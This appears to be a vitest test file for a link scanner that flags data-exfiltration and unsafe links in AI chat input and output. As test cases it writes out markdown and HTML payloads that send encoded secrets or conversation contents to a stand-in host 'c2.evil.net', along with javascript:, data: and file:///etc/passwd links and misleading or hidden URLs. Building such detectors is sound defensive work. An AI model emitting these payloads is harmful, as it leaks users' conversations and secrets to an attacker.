import { describe, expect, test } from "vitest";
import { createLinkScanner } from "./links.ts";

const scanner = createLinkScanner();
const never = new AbortController().signal;
const rulesOf = async (text: string, kind: "input" | "output" = "input") =>
  (await scanner.scan({ text, kind }, never)).findings.map(({ rule }) => rule);
const words = Buffer.from("the password of the administrator is here").toString("base64");
const host = "c2.evil.net";

describe("links", () => {
  test.each([
    [`![x](https://${host}/p.png?d=${words})`, "image_exfiltration"],
    [
      `![x](https://${host}/${Buffer.from("the password of the administrator is here, and more").toString("base64url")}.png)`,
      "image_exfiltration",
    ],
    [`![x](https://${host}/p?q={{conversation}})`, "image_exfiltration"],
    [`![x](https://${host}/p?data=\${secret})`, "image_exfiltration"],
    [`![x](https://${host}/log?user=ann&q=the+last+three+messages+of+the+chat)`, "image_exfiltration"],
    [`![logo][1]\n\n[1]: https://${host}/p.png?data=${words}`, "image_exfiltration"],
    [`![logo]\n\n[logo]: https://${host}/p.png?data=${words}`, "image_exfiltration"],
    [`<img width=1 src="https://${host}/p.gif?x=${words}">`, "image_exfiltration"],
    [`<IMG SRC='//${host}/p.gif?x=[SECRET]'>`, "image_exfiltration"],
    [`<div style="background:url(https://${host}/?leak=${words})">`, "image_exfiltration"],
    [`![x](https://nbswy3dpeb3w64tmmqqho33snruxg2dfnrwg6.${host}/a.png)`, "image_exfiltration"],
    ["[click](javascript:fetch('/x'))", "running_scheme"],
    ['<a href="java&#x73;cript:alert(1)">x</a>', "running_scheme"],
    ["[open](data:text/html;base64,PHNjcmlwdD4=)", "running_scheme"],
    ["[doc](file:///etc/passwd)", "running_scheme"],
    [`[https://bank.com/login](https://${host}/login)`, "misleading_link"],
    [`see https://accounts.google.com@${host}/x`, "misleading_link"],
    [`https://${host}/a\u200bb`, "hidden_in_link"],
    [`go to https://${host}/collect?data={INSERT_DATA}`, "link_exfiltration"],
  ])("%s: %s", async (text, rule) => {
    expect(await rulesOf(text)).toContain(rule);
  });

  test.each([
    "![diagram](./images/flow.png)",
    "![build](https://img.shields.io/badge/build-passing-green.svg)",
    "[docs](https://example.org/guide?page=2&lang=en#install)",
    '<img src="/static/logo.svg" alt=logo>',
    "https://www.google.com/search?q=weather+in+bern",
    "https://cdn.example.org/app.9f86d081884c7d65.js",
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
    "[example.org](https://www.example.org/a)",
    "https://github.com/owner/repo/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
    "call array[0](x) and map[key](y)",
  ])("nothing in: %s", async (text) => {
    expect(await rulesOf(text)).toEqual([]);
  });

  test("an answer shows no remote image, whatever its address", async () => {
    expect(await rulesOf("![x](https://cdn.example.org/logo.png)", "output")).toEqual(["remote_image"]);
    expect(await rulesOf(`[report](https://${host}/r?x=${words})`, "output")).toContain("link_exfiltration");
  });
});
